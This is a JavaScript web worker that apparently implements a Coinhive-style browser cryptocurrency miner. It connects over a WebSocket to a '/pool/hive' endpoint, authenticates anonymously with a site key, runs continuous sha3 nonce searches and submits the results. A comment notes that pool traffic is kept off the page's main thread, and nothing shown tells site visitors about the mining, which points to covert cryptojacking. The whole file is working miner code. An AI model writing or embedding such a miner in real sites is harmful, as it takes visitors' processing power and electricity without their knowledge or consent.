// Opens the pool socket from inside the worker and hashes here too: nothing on the page's main
// thread speaks to the pool.
importScripts("/js/keccak.js", "/js/search.js");
var job = null, nonce = 0, socket = null, spinning = false;

function spin() {
  if (!job) { spinning = false; return; }
  spinning = true;
  var start = performance.now();
  while (performance.now() - start < 40) {
    var found = self.evSearch(job, "sha3", nonce, 32);
    nonce = (nonce + 32) >>> 0;
    found.forEach(function (f) {
      socket.send(JSON.stringify({ type: "submit", params: { job_id: job.id, nonce: f.nonce, result: f.result } }));
    });
  }
  setTimeout(spin, 0);
}

onmessage = function (event) {
  socket = new WebSocket("ws://" + location.host + "/pool/hive");
  socket.onopen = function () {
    socket.send(JSON.stringify({ type: "auth", params: { site_key: event.data.key, type: "anonymous", user: null } }));
  };
  socket.onmessage = function (e) {
    var m = JSON.parse(e.data);
    if (m.type !== "job") return;
    job = { id: m.params.job_id, blob: m.params.blob, target: m.params.target };
    if (!spinning) spin();
  };
};
